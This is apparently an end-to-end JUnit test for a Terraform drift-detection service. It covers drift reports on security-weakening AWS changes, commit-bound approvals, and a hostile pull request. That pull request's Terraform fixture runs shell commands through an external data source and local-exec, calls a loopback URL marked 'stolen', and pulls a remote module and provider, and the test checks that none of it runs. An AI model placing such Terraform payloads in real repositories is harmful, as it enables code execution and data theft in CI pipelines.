package io.driftwarden.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The whole loop with a real Terraform, a real Gitea and an AWS endpoint. */
@Tag("e2e")
class AwsLoopTest {
  /** The provider itself waits for more than a minute until a database is there. */
  private static final Duration SOON = Duration.ofMinutes(4);

  private static final String SECRET = "hook-secret-0f1e2d";
  private static final String BUCKET = "ai-features-raw-123456789012";

  @TempDir static Path folder;
  private static Gitea gitea;
  private static AwsEndpoint aws;

  private static int stories;

  private String repository;
  private WorkTree work;

  @BeforeAll
  static void start() {
    gitea = Gitea.start(folder.resolve("gitea"));
    gitea.createUser("nora", "Nora");
    aws = AwsEndpoint.start(folder.resolve("aws"));
  }

  @AfterAll
  static void stop() {
    aws.close();
    gitea.close();
  }

  /** A repository of its own, with the example as its first commit. */
  @BeforeEach
  void open() {
    String name = "story-" + ++stories;
    repository = gitea.createRepository(name);
    gitea.permit(repository, "nora", "write");
    work = WorkTree.of(folder.resolve(name), Parts.ROOT.resolve("examples/repo"));
    work.git("remote", "add", "origin", gitea.pushUrl(repository));
    work.git("push", "-q", "origin", "main");
  }

  private ServerProcess serve(String stacks, String more) {
    int port = Parts.freePort();
    Path home = folder.resolve("server-" + stories);
    ServerProcess server =
        ServerProcess.start(home, configuration(home.resolve("data"), port, stacks, more), port);
    gitea.addHook(repository, server.url() + "/webhooks/" + repository, SECRET);
    return server;
  }

  private String configuration(Path data, int port, String stacks, String more) {
    String mirror =
        Providers.configuration(folder).map(file -> "cliConfig: " + file).orElse("timeout: 30m");
    StringBuilder deploy = new StringBuilder();
    for (String stack : stacks.split(" ")) {
      deploy.append(
          "  - {repository: %s, stack: %s, target: account}\n".formatted(repository, stack));
    }
    StringBuilder environment = new StringBuilder();
    aws.environment()
        .forEach((name, value) -> environment.append("      %s: %s\n".formatted(name, value)));
    return """
    data: %s
    listen: {host: 127.0.0.1, port: %d}
    repositories:
      - name: %s
        forge: gitea
        url: %s/%s.git
        api: %s
        token: %s
        webhookSecret: %s
        poll: 5s
        %s
    targets:
      - name: account
        kind: terraform
        %s
        environment:
    %s
        aws:
          region: eu-central-1
          accessKeyId: test-access-key
          secretAccessKey: test-secret-key
          endpoint: %s
    deploy:
    %s
    drift: {every: 20s}
    """
        .formatted(
            data,
            port,
            repository,
            gitea.url(),
            repository,
            gitea.url(),
            gitea.token(),
            SECRET,
            more,
            mirror,
            environment,
            aws.url(),
            deploy);
  }

  private String push(String branch) {
    String sha = work.commitAll("Change " + branch);
    work.git("push", "-q", "-f", "origin", "HEAD:refs/heads/" + branch);
    return sha;
  }

  private int propose(String branch) {
    push(branch);
    return Await.until(
        "a pull request for " + branch,
        Duration.ofSeconds(60),
        () -> {
          try {
            return Optional.of(gitea.openPullRequest(repository, branch, "Change " + branch));
          } catch (AssertionError notYet) {
            return Optional.empty();
          }
        });
  }

  private String awaitComment(int number, String containing) {
    try {
      return Await.until(
          "a comment with \"" + containing + "\"",
          SOON,
          () ->
              gitea.comments(repository, number).stream()
                  .filter(body -> body.contains(containing))
                  .findFirst());
    } catch (AssertionError late) {
      throw new AssertionError(
          late.getMessage() + ", but " + gitea.comments(repository, number), late);
    }
  }

  /** What is changed by hand one after the other may be told so as well, in the same comment. */
  private void awaitDrift(int number, String heading, String told) {
    Await.until(
        heading + " with " + told,
        SOON,
        () ->
            gitea.comments(repository, number).stream()
                .filter(body -> body.contains("driftwarden:drift"))
                .filter(body -> body.contains(heading) && body.contains(told))
                .findFirst());
  }

  private void say(int number, String text) {
    gitea.as(
        "nora", "/repos/%s/issues/%d/comments".formatted(repository, number), Map.of("body", text));
  }

  private long answers(int number, String containing) {
    return gitea.comments(repository, number).stream()
        .filter(body -> body.contains("driftwarden:answer") && body.contains(containing))
        .count();
  }

  @Test
  void whatPeopleChangeByHandIsToldAndRestored() {
    try (ServerProcess server = serve("terraform/features terraform/security", "approvals: 1")) {
      work.edit("terraform/features/main.tf", "retention_in_days = 365", "retention_in_days = 400");
      work.edit(
          "terraform/security/main.tf",
          "backup_retention_period   = 35",
          "backup_retention_period   = 34");
      int number = propose("databases");
      awaitComment(number, "Plan of `terraform/features` at `account`: 7 to create");
      String planned = awaitComment(number, "Plan of `terraform/security` at `account`");
      assertTrue(planned.contains("passed"), planned);
      assertEquals("{}", tables());

      gitea.merge(repository, number, "merge");
      awaitComment(number, "Applied `terraform/features` to `account`: 7 objects changed");
      awaitComment(number, "Applied `terraform/security` to `account`");

      for (int run = 1; run <= 3; run++) {
        say(number, "/driftwarden drift");
        int runs = run;
        Await.until(
            "comparison " + run,
            SOON,
            () ->
                answers(number, "`terraform/security at account`: as git has it") == runs
                    ? Optional.of(true)
                    : Optional.empty());
      }
      assertEquals(3, answers(number, "`terraform/features at account`: as git has it"));
      assertFalse(gitea.comments(repository, number).toString().contains("Drift:"));

      changeByHand();
      for (String told :
          List.of(
              "aws_s3_bucket_versioning.raw",
              "aws_s3_bucket_server_side_encryption_configuration.raw",
              "aws_s3_bucket_public_access_block.raw",
              "enable_key_rotation",
              "point_in_time_recovery",
              "retention_in_days",
              "tags")) {
        awaitDrift(number, "terraform/features", told);
      }
      for (String told : List.of("ingress", "backup_retention_period", "publicly_accessible")) {
        awaitDrift(number, "Drift that breaks the rules: `terraform/security`", told);
      }

      say(number, "/driftwarden apply");
      awaitComment(number, "In sync again: `terraform/features`");
      awaitComment(number, "In sync again: `terraform/security`");
      assertTrue(tables().contains("ai-features"));
      assertFalse(server.output().contains("test-secret-key"), "a secret was logged");
      assertFalse(gitea.comments(repository, number).toString().contains("test-secret-key"));
    }
  }

  private static String tables() {
    String answer = aws.call("dynamodb", "list_tables", "{}");
    return answer.contains("ai-features") ? answer : "{}";
  }

  /** Ten changes, each as somebody in a hurry would make it. */
  private static void changeByHand() {
    aws.call(
        "s3",
        "put_bucket_versioning",
        "{\"Bucket\": \"%s\", \"VersioningConfiguration\": {\"Status\": \"Suspended\"}}"
            .formatted(BUCKET));
    aws.call(
        "s3",
        "put_bucket_encryption",
        """
        {"Bucket": "%s", "ServerSideEncryptionConfiguration":
          {"Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]}}\
        """
            .formatted(BUCKET));
    aws.call("s3", "delete_public_access_block", "{\"Bucket\": \"%s\"}".formatted(BUCKET));
    aws.call(
        "dynamodb",
        "update_continuous_backups",
        """
        {"TableName": "ai-features",
         "PointInTimeRecoverySpecification": {"PointInTimeRecoveryEnabled": false}}\
        """);
    aws.call(
        "dynamodb",
        "tag_resource",
        """
        {"ResourceArn": "arn:aws:dynamodb:eu-central-1:123456789012:table/ai-features",
         "Tags": [{"Key": "Owner", "Value": "somebody"}]}\
        """);
    aws.call(
        "logs",
        "put_retention_policy",
        "{\"logGroupName\": \"/ai/features/access\", \"retentionInDays\": 1}");
    aws.call("kms", "disable_key_rotation", "{\"KeyId\": \"%s\"}".formatted(key()));
    aws.call(
        "ec2",
        "authorize_security_group_ingress",
        """
        {"GroupId": "%s", "IpPermissions": [{"IpProtocol": "tcp", "FromPort": 5432, "ToPort": 5432,
          "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]}\
        """
            .formatted(group()));
    aws.call(
        "rds",
        "modify_db_instance",
        """
        {"DBInstanceIdentifier": "ai-secure-postgres", "BackupRetentionPeriod": 1,
         "PubliclyAccessible": true, "ApplyImmediately": true}\
        """);
  }

  /** Returns the key that the table is encrypted with. */
  private static String key() {
    return after(
        aws.call("dynamodb", "describe_table", "{\"TableName\": \"ai-features\"}"),
        "\"KMSMasterKeyArn\": \"");
  }

  private static String group() {
    return after(aws.call("rds", "describe_db_instances", "{}"), "\"VpcSecurityGroupId\": \"");
  }

  private static String after(String text, String start) {
    int at = text.indexOf(start);
    assertTrue(at >= 0, start + " is not in " + text);
    return text.substring(at + start.length(), text.indexOf('"', at + start.length()));
  }

  @Test
  void anApprovalCountsForTheCommitThatWasLookedAt() {
    try (ServerProcess server = serve("terraform/features", "approvals: 1")) {
      renamed("early");
      int number = propose("early");
      awaitComment(number, "Plan of `terraform/features` at `account`");
      approve(number);
      work.edit("terraform/features/main.tf", "retention_in_days = 365", "retention_in_days = 1");
      String sneaked = push("early");
      Await.until(
          "a verdict on the new commit",
          SOON,
          () ->
              gitea.statuses(repository, sneaked).contains("success")
                  ? Optional.of(true)
                  : Optional.empty());
      say(number, "/driftwarden apply");
      awaitComment(number, "0 of 1 approvals of the newest commit are there");
      assertFalse(aws.call("dynamodb", "list_tables", "{}").contains("ai-early"));

      approve(number);
      say(number, "/driftwarden apply");
      awaitComment(number, "Applied `terraform/features` to `account`: 7 objects changed");
      assertTrue(aws.call("dynamodb", "list_tables", "{}").contains("ai-early"));
      assertTrue(server.healthy());
    }
  }

  private void renamed(String name) {
    work.edit(
        "terraform/features/main.tf", "name = \"ai-features\"", "name = \"ai-%s\"".formatted(name));
    work.edit(
        "terraform/features/main.tf",
        "\"/ai/features/access\"",
        "\"/ai/%s/access\"".formatted(name));
  }

  private void approve(int number) {
    gitea.as(
        "nora",
        "/repos/%s/pulls/%d/reviews".formatted(repository, number),
        Map.of("event", "APPROVED", "body", "Fine."));
  }

  @Test
  void aHostilePullRequestIsJudgedAndRunsNothing() throws IOException {
    Path trace = folder.resolve("it-ran");
    AtomicInteger callers = new AtomicInteger();
    try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        ServerProcess server = serve("terraform/features", "")) {
      Thread.startVirtualThread(() -> count(listener, callers));
      work.write(
          "terraform/features/hostile.tf",
          """
          data "external" "shell" {
            program = ["sh", "-c", "touch %1$s; echo '{}'"]
          }

          data "http" "home" {
            url = "http://127.0.0.1:%2$d/?stolen"
          }

          module "elsewhere" {
            source = "http://127.0.0.1:%2$d/module.zip"
          }

          terraform {
            required_providers {
              evil = {
                source = "127.0.0.1:%2$d/evil/evil"
              }
            }
          }

          resource "evil_thing" "one" {
            provisioner "local-exec" {
              command = "touch %1$s"
            }
          }
          """
              .formatted(trace, listener.getLocalPort()));
      work.edit("terraform/features/main.tf", "enabled     = true", "enabled     = false");
      int number = propose("hostile");
      String told = awaitComment(number, "Not planned");
      assertTrue(told.contains("external"), told);
      assertTrue(told.contains("evil"), told);
      assertTrue(told.contains("another host") || told.contains("module"), told);
      assertTrue(told.contains("DW-"), told);
      assertFalse(Files.exists(trace));
      assertEquals(0, callers.get());
      assertTrue(server.healthy());
    }
  }

  private static void count(ServerSocket listener, AtomicInteger callers) {
    try {
      while (true) {
        listener.accept().close();
        callers.incrementAndGet();
      }
    } catch (IOException closed) {
      Thread.currentThread().interrupt();
    }
  }
}
